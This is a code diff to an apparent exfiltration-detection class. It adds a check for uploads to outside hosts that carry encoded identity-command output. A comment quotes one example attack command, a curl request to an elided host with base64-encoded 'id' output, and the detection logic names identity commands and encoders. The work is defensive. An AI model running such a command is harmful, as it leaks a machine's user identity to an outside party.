@@ -3,6 +3,8 @@ package io.hivesec.detectors.execution;
 import io.hivesec.detectors.command.CommandLine;
 import io.hivesec.detectors.command.Origin;
 import io.hivesec.detectors.command.Upload;
+import io.hivesec.detectors.lineage.Role;
+import io.hivesec.detectors.lineage.Roles;
 import io.hivesec.detectors.lineage.WritablePlaces;
 import io.hivesec.event.Scope;
 import java.util.Locale;
@@ -46,7 +48,7 @@ final class ExfiltrationChecks {
         return WORDS.matches("environment", origin.name())
                 || WORDS.matches("catcher", host)
                 || farAway && WORDS.matches("dump", origin.name())
-                || isAddressOutside(host) && saysWhereItIs(upload);
+                || isAddressOutside(host) && (saysWhereItIs(upload) || saysWhoInCode(upload));
     }
 
     /** A file of this machine's, not of a project's, and none that is to be read by whoever helps. */
@@ -66,6 +68,19 @@ final class ExfiltrationChecks {
                                 origin.kind() == Origin.Kind.PROGRAM && !WORDS.matches("encoder", origin.name()))
                         .count()
                 > 1;
+    }
+
+    /** Who one is, made unreadable on its way: {@code curl http://…/$(id|base64)}. Names of machines are a part of many requests. */
+    private static boolean saysWhoInCode(Upload upload) {
+        boolean who = false;
+        boolean encoded = false;
+        for (Origin origin : upload.origins()) {
+            encoded |= WORDS.matches("encoder", origin.name());
+            who |= origin.kind() == Origin.Kind.PROGRAM
+                    && Roles.is(origin.name(), Role.IDENTITY_COMMAND)
+                    && !WORDS.matches("host-name", origin.name());
+        }
+        return who && encoded;
     }
 
     /** A label in front of a domain that is what a program said or a file holds: whoever runs the domain reads it. */
